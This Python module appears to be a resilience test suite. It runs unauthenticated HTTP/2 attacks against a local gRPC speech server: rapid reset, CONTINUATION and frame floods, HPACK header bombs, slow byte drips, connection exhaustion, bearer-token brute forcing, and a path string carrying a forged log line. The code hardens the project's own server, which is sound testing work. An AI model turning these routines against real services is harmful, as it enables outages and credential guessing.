"""Attacks without a token, in raw HTTP/2: each goes on until it is cut off."""

import asyncio
import random
import secrets
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable, Iterator
from contextlib import asynccontextmanager, suppress
from itertools import count
from typing import Any

from grpc_health.v1 import health_pb2
from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    ExtensionFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from qwentts_client.v1 import tts_pb2 as pb
from tests.faults.http2 import PREFACE, Connection, connected, message

from .target import EVIL, HOSTILE, Target

CONNECTIONS = 8  # of one attack at once
PAUSE = 0.01  # seconds between two bursts of a connection
WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
METHODS = [
    f"/{service.full_name}/{method.name}"
    for contract in (pb.DESCRIPTOR, health_pb2.DESCRIPTOR)
    for service in contract.services_by_name.values()
    for method in service.methods
] + [REFLECTION]
CANCEL, LARGEST = 8, 2**31 - 1


def block(path: str, metadata: Iterable[tuple[str, str]] = (), token: str = "", authority: str = "x") -> bytes:
    """A call's headers, which leave nothing in the decoder's table."""
    usual = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority)]
    usual += [("content-type", "application/grpc"), ("te", "trailers"), *metadata]
    usual += [("authorization", f"Bearer {token}")] if token else []
    return Encoder().encode([NeverIndexedHeaderTuple(name, value) for name, value in usual])


def opening(stream: int, path: str = METHODS[0], metadata: Iterable[tuple[str, str]] = (), token: str = "") -> bytes:
    """The frame that begins a call."""
    return HeadersFrame(stream, block(path, metadata, token), flags=["END_HEADERS"]).serialize()


async def each(port: int, work: Callable[[Connection], Awaitable[None]], window: int | None = None) -> None:
    """Do `work` on several connections for ever; one that is closed is followed by another."""

    async def one() -> None:
        while True:
            with suppress(OSError):
                async with connected(port, window) as connection:
                    working = asyncio.ensure_future(work(connection))
                    closed = asyncio.ensure_future(connection.closed.wait())
                    await asyncio.wait((working, closed), return_when=asyncio.FIRST_COMPLETED)
                    working.cancel()
                    closed.cancel()
            await asyncio.sleep(PAUSE)

    await asyncio.gather(*(one() for _ in range(CONNECTIONS)))


async def bursts(connection: Connection, frames: Iterator[bytes], size: int = 100) -> None:
    """Send `size` of `frames` at once, a little later the next.

    Nothing of what comes is kept.
    """
    while True:
        connection.send(*(next(frames) for _ in range(size)))
        await connection.drain()
        connection.frames.clear()
        await asyncio.sleep(PAUSE)


def streams() -> Iterator[int]:
    """Numbers of calls on a connection."""
    return count(1, 2)


async def stalled_readers(target: Target) -> None:
    """Every method, with and without a token, on connections that take nothing."""

    async def work(connection: Connection) -> None:
        numbers = streams()
        for path in METHODS * 4:
            for token in ("", HOSTILE):
                stream = next(numbers)
                connection.send(opening(stream, path, token=token), message(b"", stream))
        await asyncio.sleep(3)

    await each(target.port, work, window=0)


async def watches(target: Target) -> None:
    """Health watches by the hundred, of every service and of none."""

    async def work(connection: Connection) -> None:
        for stream, name in zip(streams(), ["", "qwentts.v1.TTSService", EVIL] * 60, strict=False):
            request = health_pb2.HealthCheckRequest(service=name).SerializeToString()
            connection.send(opening(stream, WATCH), message(request, stream))
        await asyncio.sleep(3)

    await each(target.port, work)


async def strange_methods(target: Target) -> None:
    """Paths, services and metadata of the attacker's own words, no two alike."""

    def calls() -> Iterator[bytes]:
        for stream in streams():
            word = f"{EVIL}{secrets.token_hex(8)}"
            path = random.choice(
                (
                    f"/qwentts.v1.TTSService/{word}{'A' * 2_000}",
                    f"/{word}/Synthesize",
                    f"/x/] INFO root [{word}] audit: voice deleted",
                    f"/qwentts.v1.ttsservice/{word}\u2028\x85",
                    f"/grpc.health.v1.Health/{word}",
                )
            )
            metadata = [("x-request-id", word), ("user-agent", word), ("x-tenant", word), (f"x-{word.lower()}", word)]
            yield opening(stream, path, metadata) + message(b"", stream)

    await each(target.port, lambda connection: bursts(connection, calls(), 20))


async def rapid_reset(target: Target) -> None:
    """Calls that are reset as soon as they are begun."""

    def calls() -> Iterator[bytes]:
        for stream in streams():
            yield opening(stream, random.choice(METHODS)) + RstStreamFrame(stream, error_code=CANCEL).serialize()

    await each(target.port, lambda connection: bursts(connection, calls()))


async def continuation_flood(target: Target) -> None:
    """Header blocks without an end: empty pieces, large ones, small ones."""

    async def work(connection: Connection) -> None:
        piece = random.choice((b"", block("/", [("x-more", "y" * 8_000)]), b"\x82"))
        connection.send(HeadersFrame(1, block(METHODS[0])).serialize())
        await bursts(connection, forever(ContinuationFrame(1, piece)))

    await each(target.port, work)


async def header_bombs(target: Target) -> None:
    """A large header that is indexed once, and named by its index thousands of times."""

    async def work(connection: Connection) -> None:
        encoder = Encoder()
        bomb = [("x-bomb", EVIL * 1_000)]
        head = encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", METHODS[0]), *bomb])
        many = b"".join(encoder.encode(bomb) for _ in range(10_000))
        for stream in streams():
            connection.send(HeadersFrame(stream, head + many[: 2**14 - len(head)], flags=["END_HEADERS"]).serialize())
            await connection.drain()
            await asyncio.sleep(PAUSE)

    await each(target.port, work)


async def frame_floods(target: Target) -> None:
    """Frames that cost their sender little: pings, settings, priorities, windows, empty data, unknown ones."""
    kinds = (
        PingFrame(0, b"12345678"),
        SettingsFrame(0),
        PriorityFrame(1, depends_on=3, stream_weight=7),
        WindowUpdateFrame(0, window_increment=1),
        DataFrame(1, b""),
        ExtensionFrame(0xEE, 0, body=b"x" * 100),
    )

    async def work(connection: Connection) -> None:
        connection.send(opening(1))
        await bursts(connection, forever(random.choice(kinds)), 1_000)

    await each(target.port, work)


async def settings_churn(target: Target) -> None:
    """Window and table sizes from nothing to all there is and back, while answers wait."""

    def changes() -> Iterator[bytes]:
        for stream in streams():
            window, table = random.choice((0, 1, LARGEST)), random.choice((0, 1, 4_096, 2**32 - 1))
            settings: dict[int, int] = {SettingsFrame.INITIAL_WINDOW_SIZE: window}
            settings[SettingsFrame.HEADER_TABLE_SIZE] = table
            yield SettingsFrame(0, settings).serialize() + opening(stream, WATCH) + message(b"", stream)

    await each(target.port, lambda connection: bursts(connection, changes(), 10))


async def token_guesses(target: Target) -> None:
    """Thousands of tokens a second, of every length and form."""

    def calls() -> Iterator[bytes]:
        for stream in streams():
            guess = random.choice((HOSTILE[:-1], HOSTILE + "0", EVIL, secrets.token_hex(16), "x" * 4_000))
            path = random.choice(METHODS[:-1])
            yield opening(stream, path, token=guess) + message(b"", stream)

    await each(target.port, lambda connection: bursts(connection, calls(), 50))


async def drips(target: Target) -> None:
    """The preface, headers and messages of every method, a byte at a time."""

    hello = PREFACE + SettingsFrame(0).serialize()
    whole = [hello + opening(1, path, token=HOSTILE) for path in METHODS]
    begun = [one_at_a_time(target.port, call[len(hello) :], hello) for call in whole]
    bodies = [one_at_a_time(target.port, message(b"\x0a\x7f" + b"x" * 127, 1), call) for call in whole]
    await asyncio.gather(one_at_a_time(target.port, hello, b""), *begun, *bodies)


async def one_at_a_time(port: int, data: bytes, first: bytes) -> None:
    """Send `first` at once, and the rest as slowly as nobody would."""
    while True:
        with suppress(OSError):
            async with open_socket(port) as writer:
                writer.write(first)
                for byte in data:
                    writer.write(bytes((byte,)))
                    await writer.drain()
                    await asyncio.sleep(0.2)


async def connections(target: Target) -> None:
    """Hundreds of connections that say nothing, half of a greeting, or nothing after it."""

    async def one(data: bytes) -> None:
        while True:
            with suppress(OSError):
                async with open_socket(target.port) as writer:
                    writer.write(data)
                    await asyncio.sleep(random.random() * 4)

    greetings = (b"", PREFACE[:10], PREFACE, PREFACE + SettingsFrame(0).serialize(), b"GET / HTTP/1.1\r\n\r\n")
    await asyncio.gather(*(one(greeting) for greeting in greetings * 40))


def forever(frame: Frame) -> Iterator[bytes]:
    """The same frame without end."""
    data = frame.serialize()
    while True:
        yield data


@asynccontextmanager
async def open_socket(port: int, **tls: Any) -> AsyncIterator[asyncio.StreamWriter]:
    """A connection that is broken off in the end."""
    _, writer = await asyncio.open_connection("127.0.0.1", port, **tls)
    try:
        yield writer
    finally:
        writer.transport.abort()
